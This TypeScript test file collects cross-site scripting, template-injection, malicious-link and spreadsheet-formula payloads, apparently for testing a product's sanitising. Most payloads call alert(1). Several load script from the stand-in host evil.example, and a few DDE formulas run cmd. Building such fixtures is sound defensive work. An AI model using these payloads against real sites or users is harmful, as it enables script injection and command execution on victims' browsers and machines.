/**
 * Words that try to be a program. Each would call alert() if some page took it for markup, a link, a
 * template or a formula. Written for this product from the classes of the OWASP filter evasion sheet.
 */
const call = 'alert(1)';

/** Elements that run by themselves once they are parsed. */
const elements = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script>${call}//`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script/x>${call}</script/x>`,
  `<script type=module>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}">`,
  `<img/src=x/onerror=${call}>`,
  `<IMG SRC=x ONERROR=${call}>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x oneonerrorrror=${call}>`,
  `<img src="x" onerror\n=${call}>`,
  `<img srcset=x onerror=${call}>`,
  `<image src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`,
  `<button autofocus onfocus=${call}>`,
  `<video src=x onerror=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>`,
  `<marquee onstart=${call}>`,
  `<div style=animation-name:x onanimationstart=${call}>`,
  `<p contenteditable autofocus onfocus=${call}>`,
  `<object data="data:text/html,<script>${call}</script>">`,
  `<embed src="data:text/html,<script>${call}</script>">`,
  `<iframe src="javascript:${call}">`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe onload=${call}>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href=//evil.example/x>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<form action=javascript:${call}><input type=submit autofocus>`,
  `<isindex action=javascript:${call} type=image>`,
  `<keygen autofocus onfocus=${call}>`,
  `<template><script>${call}</script></template>`,
  `<slot onslotchange=${call}></slot>`,
  `<dialog open onclose=${call}><form method=dialog><button autofocus>`,
];

/** Other languages within HTML. */
const foreign = [
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script>alert&lpar;1&rpar;</script>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<math><mtext></p><img src=x onerror=${call}></mtext></math>`,
  `<math href="javascript:${call}">x</math>`,
  `<math><mi xlink:href="data:x,<script>${call}</script>">`,
  `<?xml version="1.0"?><x onload=${call}>`,
];

/** Words that step out of the place they were put in. */
const escapes = [
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `"><img src=x onerror=${call}>`,
  `' onmouseover=${call} x='`,
  `" autofocus onfocus=${call} x="`,
  `\` onmouseover=${call} x=\``,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `';${call};//`,
  `";${call};//`,
  `\\";${call};//`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`,
  `constructor`,
  `__proto__`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
];

/** Links that run instead of leading somewhere, also as Markdown writes them. */
const links = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `<a href="javascript:${call}">x</a>`,
  `<a href="java&#9;script:${call}">x</a>`,
  `[x](javascript:${call})`,
  `[x](<javascript:${call}>)`,
  `[x](javascript&colon;${call})`,
  `![x](x"onerror="${call})`,
  `![x](javascript:${call})`,
  `<javascript:${call}>`,
  `[x]: javascript:${call}\n\n[x]`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
];

/** Characters that are not what they seem, and what a spreadsheet takes for a formula. */
const disguised = [
  `\u202e<script>${call}</script>`,
  `\ufeff<script>${call}</script>`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `<\u200bscript>${call}</script>`,
  `<img src=x onerror\u2028=${call}>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `=HYPERLINK("javascript:${call}","x")`,
  `=cmd|'/c calc'!A1`,
  `@SUM(1+1)*cmd|'/c calc'!A1`,
];

export const payloads: readonly string[] = [
  ...elements,
  ...foreign,
  ...escapes,
  ...links,
  ...disguised,
];

/** Those that fit a field of one line and so many characters. */
export const linesUpTo = (most: number): string[] =>
  payloads.filter((text) => text.length <= most && !/\p{Cc}/u.test(text));
